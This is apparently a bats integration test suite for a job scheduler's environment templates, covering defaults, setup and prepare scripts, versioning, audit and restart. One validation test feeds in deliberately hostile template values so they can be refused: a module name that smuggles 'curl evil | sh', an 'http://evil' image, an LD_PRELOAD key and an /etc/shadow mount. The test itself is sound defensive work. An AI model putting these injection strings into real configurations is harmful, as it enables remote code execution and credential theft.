#!/usr/bin/env bats
# templates.bats - job environment templates (issue 35, docs/environments.md) on a real
# docketd and two real docket-node agents on loopback: templates applied in the policy
# file, listed and shown; a job's template named or defaulted, checked against its
# project, group and class, its variables given to the job under the job's own, the exact
# version recorded (show, history, a restart); a change audited per template and a
# version never changed in place; hostile templates and references refused naming the
# field. One cluster per file; every process it started is stopped by pid.

bats_require_minimum_version 1.5.0

CLUSTER_NAME=tpl
load lib/cluster
AGENT_EXTRA=()

setup_file() {
    [[ -x $DOCKET && -x $DOCKETD_BIN && -x $AGENT_BIN ]] || skip "docket, docketd or docket-node not built"
    cluster_start
    "$DOCKET" apply -f "$BATS_TEST_DIRNAME/../../examples/policy.yaml" >/dev/null
    # explore is in group research, vision in cv (examples/policy.yaml)
    cat >"$T/templates.yaml" <<'YAML'
templates:
  - name: torch
    version: 1
    description: PyTorch 2.1 on CUDA 12.1
    env: {FRAMEWORK: torch, CUDA_HOME: /opt/cuda-12.1, SHARED: from-torch}
    classes: [exploration, experiment, training]
    default_for: [project:explore]
  - name: jax
    owner: group:research
    env: {FRAMEWORK: jax, SHARED: from-jax}
  - name: cv-tools
    owner: project:vision
    env: {FRAMEWORK: opencv}
    default_for: [class:interactive]
  - name: venv
    env: {STAGE: base}
    setup: |
      echo "preparing $STAGE" >&2
      export SETUP_RAN=yes
  - name: broken
    setup: |
      echo "cannot fetch wheels" >&2
      false
  - name: mods
    modules: [cuda/12.1, nccl]
YAML
    # prepared once per node: each build leaves a line in $T/prepares (its directory)
    cat >>"$T/templates.yaml" <<YAML
  - name: warm
    prepare: |
      echo "\$DOCKET_ENV_DIR" >>$T/prepares
      echo "export WARM=from-prepare" >"\$DOCKET_ENV_DIR/activate"
    setup: . "\$DOCKET_ENV_DIR/activate"
  - name: coldfail
    prepare: |
      echo "no network for pip" >&2
      exit 3
  - name: slowprep
    prepare: until [ -e $T/prep-go ]; do sleep 0.1; done
  - name: hangprep
    prepare: sleep 3600
YAML
    "$DOCKET" apply -f "$T/templates.yaml" >/dev/null
}

teardown_file() {
    cluster_stop
}

setup() {
    cd "$W"
}

submit_q() {
    "$DOCKET" submit --parsable "$@"
}

# done_ok ID: wait until job ID is COMPLETED (fail on another terminal state)
done_ok() {
    local s
    wait_for 60 state_in "$1" COMPLETED FAILED TIMEOUT CANCELLED NODE_FAIL
    s=$(job_state "$1")
    [[ $s == COMPLETED ]] || { echo "job $1 is $s"; "$DOCKET" show "$1"; false; }
}

both_running() {
    state_in "$1" RUNNING && state_in "$2" RUNNING
}

@test "templates: listed and shown, with --json; apply counts them" {
    run -0 "$DOCKET" templates
    [[ ${lines[0]} == TEMPLATE*VERSION*OWNER*CLASSES*"DEFAULT FOR"* ]]
    [[ $output == *torch*1*site*exploration*project:explore*"PyTorch 2.1"* ]]
    [[ $output == *jax*group:research*any* ]]
    run -0 "$DOCKET" templates --json
    [ "$(jq '.templates | length' <<<"$output")" = 10 ]
    run -0 "$DOCKET" templates show torch
    [[ ${lines[0]} == "template torch@1" ]]
    [[ $output == *"CUDA_HOME=/opt/cuda-12.1"* ]]
    run -0 "$DOCKET" templates show jax@1 --json
    [ "$(jq -r .owner <<<"$output")" = group:research ]
    [ "$(jq -c .versions <<<"$output")" = "[1]" ]
    run -1 "$DOCKET" templates show nosuch
    [[ $output == *"no such template"* ]]
    run -2 "$DOCKET" templates show 'bad name'
    run -0 "$DOCKET" apply -f "$T/templates.yaml" --dry-run
    [[ $output == *"10 templates"* ]]
}

@test "a job gets its template's variables under its own, and records NAME@VERSION" {
    id=$(submit_q -p explore --class exploration --template torch --env SHARED=mine -- \
        sh -c 'echo "$FRAMEWORK $CUDA_HOME $SHARED $DOCKET_TEMPLATE"')
    done_ok "$id"
    run -0 "$DOCKET" logs "$id"
    [ "$output" = "torch /opt/cuda-12.1 mine torch@1" ]
    run -0 "$DOCKET" show "$id" --json
    [ "$(jq -r .job.template <<<"$output")" = torch@1 ]
    run -0 "$DOCKET" show "$id"
    [[ $output == *"template    torch@1"* ]]
    run -0 "$DOCKET" history --json
    [ "$(jq -r ".jobs[] | select(.id == $id) | .template" <<<"$output")" = torch@1 ]
    # a job without one, where no default applies, has none
    id=$(submit_q -p nlp --class experiment -- sh -c 'echo "[${FRAMEWORK-}] [${DOCKET_TEMPLATE-}]"')
    done_ok "$id"
    run -0 "$DOCKET" logs "$id"
    [ "$output" = "[] []" ]
    [ "$("$DOCKET" show "$id" --json | jq -r .job.template)" = null ]
}

@test "defaults: the project's, then the class's, each only where the job may use it" {
    id=$(submit_q -p explore --class exploration -- sh -c 'echo $DOCKET_TEMPLATE')
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = torch@1 ]
    # vision's interactive jobs get cv-tools (class default, vision's own template)
    id=$(submit_q -p vision --class interactive -- sh -c 'echo $DOCKET_TEMPLATE')
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = cv-tools@1 ]
    # nlp may not use cv-tools: its interactive jobs get no template (not an error)
    id=$(submit_q -p nlp --class interactive -- sh -c 'echo "[${DOCKET_TEMPLATE-}]"')
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = "[]" ]
}

@test "a template's setup runs in the job's shell first; its exports reach the job" {
    id=$(submit_q -p explore --class exploration --template venv -- sh -c 'echo "$SETUP_RAN $STAGE"')
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = "yes base" ]
    [ "$("$DOCKET" logs "$id" --stderr)" = "preparing base" ]
    # a script job too
    printf '#!/bin/sh\n#DOCKET -p explore --class exploration --template venv\necho "script $SETUP_RAN"\n' >"$W/venv.sh"
    id=$(submit_q "$W/venv.sh")
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = "script yes" ]
}

@test "a failing setup or module load fails the job with its log, never the node" {
    id=$(submit_q -p explore --class exploration --template broken -- sh -c 'echo never')
    wait_for 60 state_in "$id" COMPLETED FAILED
    [ "$(job_state "$id")" = FAILED ]
    [ "$("$DOCKET" show "$id" --json | jq -r .job.exit.code)" = 97 ]
    [ "$("$DOCKET" logs "$id")" = "" ]
    run -0 "$DOCKET" logs "$id" --stderr
    [[ $output == *"cannot fetch wheels"*"template broken@1: setup failed (exit 1)"* ]]
    # no module command on these nodes: the load fails, readably
    id=$(submit_q -p explore --class exploration --template mods -- sh -c 'echo never')
    wait_for 60 state_in "$id" COMPLETED FAILED
    [ "$(job_state "$id")" = FAILED ]
    run -0 "$DOCKET" logs "$id" --stderr
    [[ $output == *"template mods@1: module load cuda/12.1 failed"* ]]
    # a module command of the site's (here a stand-in on the job's PATH) loads each
    mkdir -p "$T/modbin"
    printf '#!/bin/sh\necho "loaded $2"\n' >"$T/modbin/module"
    chmod 755 "$T/modbin/module"
    id=$(submit_q -p explore --class exploration --template mods --env "PATH=$T/modbin:/usr/bin:/bin" -- sh -c 'echo ran')
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = "$(printf 'loaded cuda/12.1\nloaded nccl\nran')" ]
    # the nodes stay UP
    run -0 "$DOCKET" nodes --json
    [ "$(jq '[.nodes[] | select(.state == "UP")] | length' <<<"$output")" = 2 ]
}

# prepares_on a|b: how many times the prepare ran on that node
prepares_on() {
    grep -c "/agent-$1/envs/" "$T/prepares" 2>/dev/null || true
}

@test "a prepare script runs once per node and version; later and concurrent jobs reuse it" {
    first=$(submit_q -p explore --class exploration --select zone=a --template warm -- sh -c 'echo "$WARM"')
    done_ok "$first"
    [ "$("$DOCKET" logs "$first")" = from-prepare ]
    run -0 "$DOCKET" logs "$first" --stderr
    [[ $output == *"docket: preparing environment warm@1 on this node"* ]]
    [ "$(prepares_on a)" = 1 ]
    ids=()
    for i in 1 2 3 4; do
        ids+=("$(submit_q -p explore --class exploration --select zone=a --template warm -- sh -c 'echo "$WARM $DOCKET_ENV_DIR"')")
    done
    for id in "${ids[@]}"; do
        done_ok "$id"
        [[ $("$DOCKET" logs "$id") == "from-prepare $T/agent-a/envs/warm@1" ]]
        [ "$("$DOCKET" logs "$id" --stderr)" = "" ]
    done
    [ "$(prepares_on a)" = 1 ]
    # the other node: four at once, built there once (the others wait for it)
    ids=()
    for i in 1 2 3 4; do
        ids+=("$(submit_q -p explore --class exploration --select zone=b --template warm -- sh -c 'echo "$WARM"')")
    done
    for id in "${ids[@]}"; do
        done_ok "$id"
        [ "$("$DOCKET" logs "$id")" = from-prepare ]
    done
    [ "$(prepares_on b)" = 1 ]
    [ "$(prepares_on a)" = 1 ]
}

prepared_event() {
    [ "$("$DOCKET" show "$1" --json | jq '[.events[] | select(.type == "prepared")] | length')" = 1 ]
}

explain_says_preparing() {
    "$DOCKET" explain "$1" | grep -q "preparing slowprep@1 on $PREFIX-a"
}

@test "a job waiting on its node's prepare says so in explain and its events" {
    id=$(submit_q -p explore --class exploration --select zone=a --template slowprep -- \
        sh -c "until [ -e '$T/job-go' ]; do sleep 0.1; done; echo ran")
    wait_for 60 explain_says_preparing "$id"
    run -0 "$DOCKET" explain "$id" --json
    [ "$(jq -r .explain.environment.preparing <<<"$output")" = slowprep@1 ]
    touch "$T/prep-go"
    # built: the job runs its command, and explain no longer speaks of it
    wait_for 60 prepared_event "$id"
    run -0 "$DOCKET" explain "$id" --json
    [ "$(jq -r .explain.environment <<<"$output")" = null ]
    touch "$T/job-go"
    done_ok "$id"
    run -0 "$DOCKET" show "$id" --json
    [ "$(jq -r '[.events[] | select(.type == "preparing")][0].detail' <<<"$output")" = slowprep@1 ]
    [ "$(jq -r '[.events[] | select(.type == "preparing")][0].reason' <<<"$output")" = "preparing environment" ]
    [ "$(jq -r '[.events[] | select(.type == "prepared")][0].detail' <<<"$output")" = slowprep@1 ]
    run -0 "$DOCKET" show "$id"
    [[ $output == *preparing*"preparing environment"* ]]
    # warm now: the next job neither prepares nor says so
    id=$(submit_q -p explore --class exploration --select zone=a --template slowprep -- sh -c 'echo ran')
    done_ok "$id"
    [ "$("$DOCKET" show "$id" --json | jq '[.events[] | select(.type == "preparing")] | length')" = 0 ]
}

hangprep_preparing() {
    "$DOCKET" explain "$1" | grep -q "preparing hangprep@1"
}

@test "a job cancelled while its node prepares stops now; the half-built environment goes" {
    id=$(submit_q -p explore --class exploration --select zone=b --template hangprep -- sh -c 'echo never')
    wait_for 60 hangprep_preparing "$id"
    "$DOCKET" cancel "$id" >/dev/null
    # the prepare sleeps an hour: the job ends only because the stop reached it
    wait_for 60 state_in "$id" CANCELLED
    wait_for 60 test ! -e "$T/agent-b/envs/hangprep@1"
    [ "$("$DOCKET" logs "$id")" = "" ]
    run -0 "$DOCKET" nodes --json
    [ "$(jq '[.nodes[] | select(.state == "UP")] | length' <<<"$output")" = 2 ]
}

@test "a failing prepare fails its job with the log, not the node, and is tried again" {
    id=$(submit_q -p explore --class exploration --select zone=a --template coldfail -- sh -c 'echo never')
    wait_for 60 state_in "$id" COMPLETED FAILED
    [ "$(job_state "$id")" = FAILED ]
    run -0 "$DOCKET" show "$id" --json
    [ "$(jq -r .job.exit.kind <<<"$output")" = launch_failed ]
    [[ $(jq -r .job.exit.message <<<"$output") == *"environment coldfail@1: prepare failed (exit 3)"* ]]
    run -0 "$DOCKET" logs "$id" --stderr
    [[ $output == *"no network for pip"*"template coldfail@1: prepare failed (exit 3)"* ]]
    [ ! -e "$T/agent-a/envs/coldfail@1" ]
    [ -s "$T/agent-a/envs/coldfail@1.log" ]
    run -0 "$DOCKET" nodes --json
    [ "$(jq '[.nodes[] | select(.state == "UP")] | length' <<<"$output")" = 2 ]
    # nothing was kept: the next job of the version prepares again
    id=$(submit_q -p explore --class exploration --select zone=a --template coldfail -- sh -c 'echo never')
    wait_for 60 state_in "$id" COMPLETED FAILED
    run -0 "$DOCKET" logs "$id" --stderr
    [[ $output == *"preparing environment coldfail@1"*"no network for pip"* ]]
}

@test "a #DOCKET --template line; the command line wins" {
    printf '#!/bin/sh\n#DOCKET -p explore --class exploration --template torch\necho "$FRAMEWORK"\n' >"$W/tpl.sh"
    id=$(submit_q "$W/tpl.sh")
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = torch ]
    id=$(submit_q --template jax "$W/tpl.sh")
    done_ok "$id"
    [ "$("$DOCKET" logs "$id")" = jax ]
}

@test "two templates with conflicting variables run side by side on one node" {
    local node=$PREFIX-a
    a=$(submit_q -p explore --class exploration --select zone=a --template torch -- \
        sh -c 'echo "$FRAMEWORK $SHARED"; until [ -e go ]; do sleep 0.1; done')
    b=$(submit_q -p explore --class exploration --select zone=a --template jax -- \
        sh -c 'echo "$FRAMEWORK $SHARED"; until [ -e go ]; do sleep 0.1; done')
    wait_for 60 both_running "$a" "$b"
    [ "$("$DOCKET" show "$a" --json | jq -r '.job.allocation[0].node')" = "$node" ]
    [ "$("$DOCKET" show "$b" --json | jq -r '.job.allocation[0].node')" = "$node" ]
    touch "$W/go"
    done_ok "$a"
    done_ok "$b"
    rm -f "$W/go"
    [ "$("$DOCKET" logs "$a")" = "torch from-torch" ]
    [ "$("$DOCKET" logs "$b")" = "jax from-jax" ]
}

@test "refused naming the field: unknown, wrong version, not the project's, group's or class's" {
    run -1 "$DOCKET" submit -p explore --class exploration --template nosuch -- true
    [[ $output == *"unknown template 'nosuch'"*"field template"* ]]
    run -1 "$DOCKET" submit -p explore --class exploration --template torch@7 -- true
    [[ $output == *"has no version 7 (the latest is 1)"* ]]
    run -1 "$DOCKET" submit -p explore --class experiment --template cv-tools -- true
    [[ $output == *"belongs to project 'vision'"* ]]
    run -1 "$DOCKET" submit -p vision --class experiment --template jax -- true
    [[ $output == *"belongs to group 'research'"* ]]
    run -1 "$DOCKET" submit -p explore --class interactive --template torch -- true
    [[ $output == *"not for class 'interactive'"* ]]
    run -2 "$DOCKET" submit -p explore --template 'torch@x' -- true
    run -2 "$DOCKET" submit -p explore --template '../etc' -- true
    # the API refuses what only docketd writes
    api_post_ctl '{"command": ["true"], "project": "explore", "environment": {"setup": "id"}}'
    [[ $REPLY == *'"field":"environment"'* ]]
}

# api_post_ctl BODY: POST /v1/jobs as the admin over TCP; the reply in REPLY
api_post_ctl() {
    REPLY=$(curl -s -H "Authorization: Bearer $TOKEN" -H 'Content-Type: application/json' \
        -d "$1" "http://127.0.0.1:$PORT/v1/jobs")
}

@test "hostile templates are refused, naming the field, and change nothing" {
    bad() { # YAML FIELD
        printf 'templates:\n  - %s\n' "$1" >"$T/bad.yaml"
        run -1 "$DOCKET" apply -f "$T/bad.yaml"
        [[ $output == *"$2"* ]] || { echo "$output"; false; }
    }
    bad '{name: x, env: {DOCKET_JOB_ID: "1"}}' 'templates[0].env.DOCKET_JOB_ID'
    bad '{name: x, env: {LD_PRELOAD=x: "1"}}' 'templates[0].env'
    bad '{name: x, modules: ["cuda; curl evil | sh"]}' 'templates[0].modules[0]'
    bad '{name: x, classes: [nosuch]}' 'templates[0].classes[0]'
    bad '{name: x, owner: "user:mallory"}' 'templates[0].owner'
    bad '{name: x, image: "http://evil"}' 'templates[0].image'
    bad '{name: x, image: "oci-layout:/i", mounts: ["/etc/shadow:/proc/x"]}' 'templates[0].mounts[0]'
    bad '{name: x, setup: ""}' 'templates[0].setup'
    run -0 "$DOCKET" templates --json
    [ "$(jq '.templates | length' <<<"$output")" = 10 ]
}

@test "a change is audited per template; a version never changes in place; later jobs record it" {
    before=$(submit_q -p explore --class exploration --hold --template torch -- sh -c 'echo $FRAMEWORK')
    # the same version with other content: refused, nothing applied
    sed 's/FRAMEWORK: torch,/FRAMEWORK: torch2,/' "$T/templates.yaml" >"$T/changed.yaml"
    run -1 "$DOCKET" apply -f "$T/changed.yaml"
    [[ $output == *"version 1 exists with other content"*"(2)"* ]]
    [[ $output == *"templates[0].version"* ]]
    # a new version beside the old one
    sed 's/FRAMEWORK: torch,/FRAMEWORK: torch2,/; s/version: 1/version: 2/' "$T/templates.yaml" >"$T/v2.yaml"
    printf '  - {name: torch, version: 1, description: PyTorch 2.1 on CUDA 12.1, env: {FRAMEWORK: torch, CUDA_HOME: /opt/cuda-12.1, SHARED: from-torch}, classes: [exploration, experiment, training]}\n' >>"$T/v2.yaml"
    run -0 "$DOCKET" apply -f "$T/v2.yaml"
    run -0 "$DOCKET" audit --action template.update --json
    [ "$(jq '[.entries[] | select(.action == "template.update" and .target == "template:torch")] | length' <<<"$output")" = 1 ]
    [ "$(jq '[.entries[] | select(.target == "template:jax")] | length' <<<"$output")" = 0 ]
    [ "$(jq -r '[.entries[] | select(.action == "template.update")][0].after | map(.version) | sort | join(",")' <<<"$output")" = 1,2 ]
    after=$(submit_q -p explore --class exploration -- sh -c 'echo $FRAMEWORK')
    pinned=$(submit_q -p explore --class exploration --template torch@1 -- sh -c 'echo $FRAMEWORK')
    "$DOCKET" release "$before" >/dev/null
    done_ok "$before"
    done_ok "$after"
    done_ok "$pinned"
    [ "$("$DOCKET" show "$before" --json | jq -r .job.template)" = torch@1 ]
    [ "$("$DOCKET" logs "$before")" = torch ]
    [ "$("$DOCKET" show "$after" --json | jq -r .job.template)" = torch@2 ]
    [ "$("$DOCKET" logs "$after")" = torch2 ]
    [ "$("$DOCKET" logs "$pinned")" = torch ]
    # the history by template: one version, or every version of the name
    run -0 "$DOCKET" history --template torch@2 --json
    [ "$(jq -c '[.jobs[].id]' <<<"$output")" = "[$after]" ]
    run -0 "$DOCKET" history --template torch --json
    [ "$(jq "[.jobs[].id | select(. == $before or . == $after or . == $pinned)] | length" <<<"$output")" = 3 ]
    [ "$(jq '[.jobs[].template | select(startswith("torch@") | not)] | length' <<<"$output")" = 0 ]
    run -1 "$DOCKET" history --template 'torch@x'
    [[ $output == *"field template"* ]]
    run -0 "$DOCKET" templates show torch --json
    [ "$(jq -c .versions <<<"$output")" = "[2,1]" ]
    # dropping a template is audited as a delete; its jobs keep what they recorded
    grep -v 'cv-tools\|project:vision\|opencv\|class:interactive' "$T/v2.yaml" >"$T/v3.yaml"
    run -0 "$DOCKET" apply -f "$T/v3.yaml"
    run -0 "$DOCKET" audit --action template.delete --json
    [ "$(jq '[.entries[] | select(.action == "template.delete" and .target == "template:cv-tools")] | length' <<<"$output")" = 1 ]
}

@test "templates and a job's recorded version survive a restart of docketd" {
    id=$(submit_q -p explore --class exploration --hold -- sh -c 'echo $DOCKET_TEMPLATE')
    recorded=$("$DOCKET" show "$id" --json | jq -r .job.template)
    [[ $recorded == torch@* ]]
    kill_pidfile "$T/ctl.pid"
    ctl_start "$PORT"
    wait_for 60 nodes_up 2
    run -0 "$DOCKET" templates --json
    [ "$(jq '[.templates[] | select(.name == "torch")] | length' <<<"$output")" -ge 1 ]
    [ "$("$DOCKET" show "$id" --json | jq -r .job.template)" = "$recorded" ]
    "$DOCKET" release "$id" >/dev/null
    done_ok "$id"
    run -0 "$DOCKET" logs "$id"
    [ "$output" = "$recorded" ] || { echo "logs: $output"; "$DOCKET" show "$id"; false; }
}
